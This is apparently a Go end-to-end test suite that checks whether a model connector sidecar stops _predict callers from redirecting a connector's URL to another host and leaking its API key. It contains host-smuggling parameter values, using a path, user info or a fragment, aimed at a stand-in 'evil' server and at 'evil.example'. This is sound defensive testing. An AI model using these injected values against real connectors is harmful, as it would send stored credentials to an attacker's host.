package e2e

import (
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
)

// trustOutboundKey is the connector's API key; the attacks below try to send
// it, in the Authorization header, to a host of the caller's choice.
const trustOutboundKey = "sk-trust-outbound-key-9"

// trustOutboundConnector has the caller-overridable ${parameters.region} in
// its host, the way ML Commons' AWS blueprints do.
const trustOutboundConnector = `{
  "name": "trust-outbound", "description": "region in the host", "version": "1", "protocol": "http",
  "parameters": {"region": "us-east-1"},
  "credential": {"api_key": "` + trustOutboundKey + `"},
  "actions": [{"action_type": "predict", "method": "POST",
    "url": "http://${parameters.region}.amazonaws.com/model/m/invoke",
    "headers": {"Authorization": "Bearer ${credential.api_key}"},
    "request_body": "{\"x\": 1}"}]
}`

// evilServer stands for a public host the caller controls. It is on
// 127.0.0.1 so that, with --allow-private-endpoints, a call that gets past
// the trusted-endpoint check really arrives.
type evilServer struct {
	*httptest.Server
	conns, requests, withKey atomic.Int64
}

func newEvilServer(t *testing.T) *evilServer {
	t.Helper()
	s := &evilServer{}
	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.requests.Add(1)
		if strings.Contains(r.Header.Get("Authorization"), trustOutboundKey) {
			s.withKey.Add(1)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"ok":true}`))
	}))
	s.Config.ConnState = func(_ net.Conn, st http.ConnState) {
		if st == http.StateNew {
			s.conns.Add(1)
		}
	}
	t.Cleanup(s.Close)
	return s
}

// Given a trusted regex shaped like ML Commons' AWS defaults (".*" before
// ".amazonaws.com") and a connector with ${parameters.region} in its host,
// when a _predict caller sets region so that the URL's host becomes another
// one (through a path, user info or a fragment), then the call is refused with
// a 400 and the other host sees no request; request parameters that leave
// the host alone still work.
func TestTrustOutboundRequestParametersCannotMoveHost(t *testing.T) {
	evil := newEvilServer(t)
	evil.Start()
	evilHost := strings.TrimPrefix(evil.URL, "http://") // 127.0.0.1:port
	sc := startSidecar(t, "--index-prefix", ".e2e-tout-",
		"--trusted-endpoint-regex", `^http://.*[a-z0-9-]\.amazonaws\.com/.*$`,
		"--trusted-endpoint-regex", `^http://127\.0\.0\.1:[0-9]+/.*$`,
		"--allow-private-endpoints")
	defer func() {
		if t.Failed() {
			t.Logf("sidecar logs:\n%s", sc.logs)
		}
	}()
	model := deployModel(t, sc, trustOutboundConnector)

	attacks := []struct{ name, parameters string }{
		{"path", `{"region":"` + evilHost + `/x","no_escape_params":"region"}`},
		{"user info", `{"region":"x@` + evilHost + `/x","no_escape_params":"region"}`},
		{"fragment", `{"region":"` + evilHost + `#x"}`},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			status, v := mlCall(t, sc, "POST", "/_plugins/_ml/models/"+model+"/_predict", `{"parameters":`+a.parameters+`}`)
			if status != 400 {
				t.Fatalf("_predict with %s: %d %v, want 400", a.parameters, status, v)
			}
			wantError(t, v, 400, "illegal_argument_exception", "Request parameters cannot change the scheme, host or port of the connector URL")
			if strings.Contains(jsonString(v), trustOutboundKey) {
				t.Errorf("answer %v contains the API key", v)
			}
		})
	}
	if n := evil.requests.Load(); n != 0 {
		t.Errorf("the caller's host saw %d requests (%d with the API key), want 0", n, evil.withKey.Load())
	}

	// Control: the same server is reachable when the connector itself names
	// it, and a request parameter in the path is still filled in.
	own := strings.NewReplacer("http://${parameters.region}.amazonaws.com/model/m/invoke",
		evil.URL+"/model/${parameters.model}/invoke").Replace(trustOutboundConnector)
	ownModel := deployModel(t, sc, own)
	before := evil.requests.Load()
	mustML(t, sc, 200, "POST", "/_plugins/_ml/models/"+ownModel+"/_predict", `{"parameters":{"model":"m1"}}`)
	if n := evil.requests.Load() - before; n != 1 {
		t.Errorf("the connector's own host saw %d requests, want 1", n)
	}
}

// Given the shipped trusted-endpoint list and a Bedrock connector with
// ${parameters.region} in its host, when a _predict caller sets region to
// user info followed by another host, then the call is refused with a 400
// before any connection to that host is made. (The host serves TLS with a
// certificate the sidecar does not trust, so a connection shows the call
// got past every check; with ML Commons' list it did.)
func TestTrustOutboundShippedDefaults(t *testing.T) {
	evil := newEvilServer(t)
	evil.StartTLS()
	evilHost := strings.TrimPrefix(evil.URL, "https://")
	sc := startSidecar(t, "--index-prefix", ".e2e-tout-def-", "--allow-private-endpoints")
	connector := strings.Replace(trustOutboundConnector,
		"http://${parameters.region}.amazonaws.com/", "https://bedrock-runtime.${parameters.region}.amazonaws.com/", 1)
	model := deployModel(t, sc, connector)

	for _, region := range []string{"x@" + evilHost + "/x", "evil.example/x"} {
		t.Run(region, func(t *testing.T) {
			status, v := mlCall(t, sc, "POST", "/_plugins/_ml/models/"+model+"/_predict",
				`{"parameters":{"region":"`+region+`","no_escape_params":"region"}}`)
			if status != 400 {
				t.Fatalf("_predict with region %q: %d %v, want 400", region, status, v)
			}
			wantError(t, v, 400, "illegal_argument_exception", "Request parameters cannot change the scheme, host or port of the connector URL")
		})
	}
	if n := evil.conns.Load(); n != 0 {
		t.Errorf("the caller's host accepted %d connections, want 0", n)
	}
}
